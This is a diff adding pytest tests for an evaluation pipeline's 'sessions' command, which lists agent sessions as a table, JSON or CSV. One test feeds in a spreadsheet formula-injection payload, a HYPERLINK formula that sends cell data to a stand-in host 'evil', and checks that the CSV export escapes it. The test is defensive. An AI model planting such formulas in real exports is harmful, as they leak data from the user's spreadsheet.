@@ -1,0 +1,115 @@
+"""``sessions``: those of the lake, on the screen and for programs."""
+
+import csv
+import io
+import json
+
+import pytest
+
+from evaluation_pipelines.schemas import AGENT_SESSIONS, SESSION_PERFORMANCE
+from evaluation_pipelines_tests.otlp_builders import claude, line, session
+from evaluation_pipelines_tests.program import Program
+
+
+def test_sessions_lists_the_newest_of_the_lake_oldest_first(three_days: Program) -> None:
+    three_days("build")
+    rows = three_days("sessions").table()
+    # Quality, autonomy 1 / 1 * 2, productivity 1 / 1 * 10 = 10; no tokens, no cost:
+    # (0.30 * 10 + 0.25 * 2 + 0.20 * 10) / 0.75 = 5.5 / 0.75 = 7.33
+    assert [row[:6] for row in rows] == [
+        [f"s{day}#baseline-1", "7.3", "keep", "baseline", f"2026-06-0{day + 1}", "12:00:00"]
+        for day in range(3)
+    ]
+    some = three_days("sessions", "--limit", "1")
+    assert "s2#baseline-1" in some.out
+    assert some.out.endswith("2 older ones not shown: use --limit or --date\n")
+    assert "s1#baseline-1" not in some.out
+
+
+def test_sessions_lists_those_of_some_dates(three_days: Program) -> None:
+    three_days("build")
+    rows = three_days("sessions", "--date", "2026-06-02..2099-01-01").table()
+    assert [row[0] for row in rows] == ["s1#baseline-1", "s2#baseline-1"]
+    none = three_days("sessions", "--date", "2026-05-01")
+    lake = three_days.folder / "data" / "lake"
+    assert (none.code, none.out) == (0, f"There are no sessions in {lake} on these dates.\n")
+
+
+def test_sessions_of_an_empty_lake_says_how_to_fill_it_and_creates_nothing(
+    program: Program,
+) -> None:
+    ran = program("sessions")
+    assert (ran.code, ran.err) == (0, "")
+    assert ran.out == (
+        f"There are no sessions in {program.folder}/data/lake yet. "
+        "Run evaluation-pipelines ingest and build, or set EVAL_DATA_DIR.\n"
+    )
+    assert list(program.folder.iterdir()) == []
+
+
+def test_sessions_for_programs_have_every_column_of_both_tables_unrounded(
+    three_days: Program,
+) -> None:
+    three_days("build")
+    ran = three_days("sessions", "--format", "json", "--limit", "2")
+    assert (ran.code, ran.err) == (0, "1 older one not shown: use --limit or --date\n")
+    first, second = json.loads(ran.out)
+    assert set(first) == set(AGENT_SESSIONS.schema) | set(SESSION_PERFORMANCE.schema)
+    assert (first["session_key"], second["session_key"]) == ("s1#baseline-1", "s2#baseline-1")
+    assert first["composite"] == pytest.approx(5.5 / 0.75, rel=1e-12)
+    assert (first["masque"], first["scorable"], first["tool_mix"]) == (None, True, {"read": 1})
+    assert first["started_at"] == "2026-06-02T12:00:00+00:00"
+    assert first["session_date"] == "2026-06-02"
+
+
+def test_sessions_as_csv_say_the_same_as_json_with_nothing_for_what_is_unknown(
+    three_days: Program,
+) -> None:
+    three_days("build")
+    (record, *_) = json.loads(three_days("sessions", "--format", "json").out)
+    ran = three_days("sessions", "--format", "csv")
+    (row, *others) = csv.DictReader(io.StringIO(ran.out))
+    assert (ran.code, ran.err, len(others)) == (0, "", 2)
+    assert list(row) == list(record)
+    assert float(row["composite"]) == record["composite"]
+    assert (row["masque"], row["cost_usd"], row["scorable"]) == ("", "", "true")
+    assert json.loads(row["tool_mix"]) == {"read": 1}
+
+
+def test_a_name_that_a_spreadsheet_would_run_is_no_formula_in_csv(program: Program) -> None:
+    formula = '=HYPERLINK("http://evil/"&A1)'
+    program.land(
+        "logs.jsonl",
+        line(
+            claude("user_prompt", session__id="=1+1"),
+            claude("tool_result", 1, session__id="=1+1", tool_name="Bash", success="true"),
+            masque__name=f"{formula}\nnext",
+        ),
+    )
+    program("ingest")
+    program("build")
+    (row,) = csv.DictReader(io.StringIO(program("sessions", "--format", "csv").out))
+    assert row["session_id"] == "'=1+1"
+    assert row["masque"] == f"'{formula}\ufffdnext"
+    (record,) = json.loads(program("sessions", "--format", "json").out)
+    assert (record["session_id"], record["masque"]) == ("=1+1", f"{formula}\nnext")
+
+
+@pytest.mark.parametrize("form", ["json", "csv"])
+def test_no_sessions_are_an_empty_list_for_programs_and_told_beside_it(
+    program: Program, form: str
+) -> None:
+    ran = program("sessions", "--format", form)
+    assert ran.code == 0
+    assert (json.loads(ran.out) if form == "json" else list(csv.DictReader([ran.out]))) == []
+    assert ran.err.startswith(f"There are no sessions in {program.folder}/data/lake yet. ")
+    assert list(program.folder.iterdir()) == []
+
+
+def test_a_claim_of_endless_cost_is_null_for_programs(program: Program) -> None:
+    calls = [claude("api_request", n, session__id="s", cost_usd=1.7e308) for n in range(3)]
+    program.land("logs.jsonl", session("s") + line(*calls))
+    program("ingest")
+    program("build")
+    (record,) = json.loads(program("sessions", "--format", "json").out)
+    assert record["cost_usd"] is None
